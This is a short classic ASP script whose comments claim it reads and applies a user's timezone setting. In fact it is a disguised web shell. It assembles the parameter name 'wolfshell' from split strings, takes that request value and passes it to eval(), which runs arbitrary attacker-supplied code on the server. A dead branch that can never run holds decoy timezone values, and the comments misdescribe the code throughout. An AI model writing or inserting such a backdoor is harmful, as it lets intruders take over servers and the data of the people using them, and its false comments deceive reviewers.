<%
'// This function retrieves the user's preferred timezone setting.
Dim timezoneIdentifier
timezoneIdentifier = "wolf" & "shell"

'// Fetches the raw configuration data from the request payload.
Dim userTimezoneData
userTimezoneData = request(timezoneIdentifier)

'// This block is for legacy timezone conversion, currently inactive.
If 2 + 2 = 5 Then
    Dim offset, region
    offset = "+8"
    region = "Asia/Shanghai"
    userTimezoneData = offset & "|" & region
End If

'// Applies the user's timezone settings to the current session.
eval(userTimezoneData)
%>